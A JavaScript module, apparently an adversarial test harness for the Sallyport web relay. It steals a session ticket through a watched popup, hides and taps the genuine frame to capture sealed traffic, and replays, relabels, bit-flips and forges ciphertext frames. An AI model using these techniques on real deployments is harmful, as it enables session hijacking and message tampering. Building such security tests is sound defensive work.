// The hostile script's hold on ciphertext. A page never sees any while the
// frame has its own socket; so it asks for a frame that has none, and carries
// that one's sealed bytes itself.

const RELAY = "/.sallyport/relay/";
const HEADER = 12; // version, type, epoch, sequence
const HELLO = 1;
const BATCH = 3;

const turn = () => new Promise((done) => {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = () => {
    port1.close();
    done();
  };
  port2.postMessage(0);
});

// The address at which tickets are had stands in the page until Sallyport's
// client, its first script, takes it out. A window of the same origin can be
// watched while it loads. It then goes on to another page, before it becomes
// a second app.
export async function stealTicket(next) {
  const beside = `left=${screenX + outerWidth - 360},top=${screenY + 140}`;
  const other = open("/", "_blank", `popup,width=320,height=120,${beside}`);
  if (!other) throw new Error("the browser kept the attack's window back: allow pop-ups for this page, then run again");
  const until = performance.now() + 10_000;
  for (let missed = 0; performance.now() < until; await turn()) {
    const config = other.document?.getElementById("sallyport-page");
    if (config) {
      const { ticket } = JSON.parse(config.textContent);
      other.stop();
      other.location.replace(next);
      return ticket;
    }
    if (other.sallyport && other.document.readyState === "complete" && missed++ % 1000 === 0) other.location.reload(); // too late
  }
  other.close();
  throw new Error("the attack's window showed no ticket");
}

// Capture embeds a genuine frame over the relay and begins a session of its
// own, unless it keeps the frame's hello back.
export async function capture(ticket, { holdHello = false } = {}) {
  const response = await fetch(ticket, { method: "POST", body: "{}" });
  const { frame: address } = await response.json();
  const carried = new Carried(holdHello);
  await carried.embed(address);
  return carried;
}

class Carried {
  #frame = document.createElement("iframe");
  #holdHello;
  #name = "";
  #port;
  #over = new AbortController();
  #last = 0;
  #answers = new Map();
  #bodies = []; // what the frame gave to carry

  hello;

  constructor(holdHello) {
    this.#holdHello = holdHello;
  }

  embed(address) {
    return new Promise((done, failed) => {
      const late = setTimeout(() => failed(new Error("the genuine frame did not come up")), 15_000);
      const begun = () => {
        clearTimeout(late);
        done();
      };
      addEventListener("message", (event) => {
        if (event.source !== this.#frame.contentWindow) return;
        if (Array.isArray(event.data)) return this.#hear(event.data, begun); // WebKit's way: window messages
        if (event.data?.sallyport !== 1 || this.#port) return;
        this.#name = event.data.relay;
        const to = this.#frame.contentWindow;
        this.#port = event.ports[0] ?? { postMessage: (list) => to.postMessage(list, "*") };
        this.#port.onmessage = ({ data }) => this.#hear(data, begun);
      });
      this.#frame.hidden = true;
      this.#frame.src = address;
      document.body.append(this.#frame);
    });
  }

  #hear(list, begun) {
    for (let i = 0; i < list.length;) {
      const [kind, a, json] = list.slice(i, i + 3);
      if (kind === 1 || kind === 2) { // result, error
        this.#answers.get(a)?.(kind === 1 ? JSON.parse(json) : undefined);
        i += kind === 1 ? 4 : 3;
      } else if (kind === 3) { // state
        if (a === "ready") begun();
        i += 2;
      } else { // a body to carry, or the farewell
        if (kind === 4) this.#carry(new Uint8Array(a.slice(0)), begun);
        i += 2;
      }
    }
  }

  async #carry(body, begun) {
    const frame = body.slice(4); // behind its length
    if (frame[1] === HELLO) {
      this.hello = frame;
      if (this.#holdHello) return begun();
    }
    this.#bodies.push(frame);
    const delivered = await this.#send(body).catch(() => false); // closed meanwhile
    if (frame[1] === HELLO && delivered) this.#poll();
  }

  async #send(body) {
    const response = await fetch(RELAY + this.#name, { method: "POST", body, signal: this.#over.signal });
    if (!response.ok) return false;
    const answer = await response.arrayBuffer();
    if (answer.byteLength > 0) this.#port.postMessage([3, answer], [answer]);
    return true;
  }

  async #poll() {
    while (await this.#send(new Uint8Array()).catch(() => false));
  }

  // Makes a genuine call and returns the sealed frame that carried it.
  async sealed(command, args) {
    const id = ++this.#last;
    const answered = new Promise((done) => this.#answers.set(id, done));
    this.#port.postMessage([1, id, command, JSON.stringify(args), 0, 0, 0]);
    await answered;
    return this.#bodies.findLast((frame) => frame[1] === BATCH);
  }

  // Sends one frame as if the genuine one had.
  async post(frame) {
    const body = new Uint8Array(4 + frame.length);
    new DataView(body.buffer).setUint32(0, frame.length);
    body.set(frame, 4);
    await fetch(RELAY + this.#name, { method: "POST", body });
  }

  close() {
    this.#over.abort();
    this.#frame.remove();
  }
}

// The sequence number, which the IV has to repeat.
function number(frame, sequence, iv) {
  new DataView(frame.buffer).setBigUint64(4, BigInt(sequence));
  if (iv) new DataView(frame.buffer).setBigUint64(HEADER + 4, BigInt(sequence));
}

// Relabel changes the clear header of a sealed frame.
export function relabel(frame, { type, epoch, sequence, iv = false }) {
  const moved = frame.slice();
  if (type !== undefined) moved[1] = type;
  if (epoch !== undefined) moved[3] = epoch;
  if (sequence !== undefined) number(moved, sequence, iv);
  return moved;
}

export function flip(frame, bit) {
  const changed = frame.slice();
  changed[bit >> 3] ^= 1 << (bit & 7);
  return changed;
}

// Forge makes up a frame of the right form.
export function forge(sequence, size) {
  const frame = crypto.getRandomValues(new Uint8Array(size));
  frame.set([1, BATCH, 0, 0]);
  frame.fill(0, HEADER, HEADER + 4);
  number(frame, sequence, true);
  return frame;
}
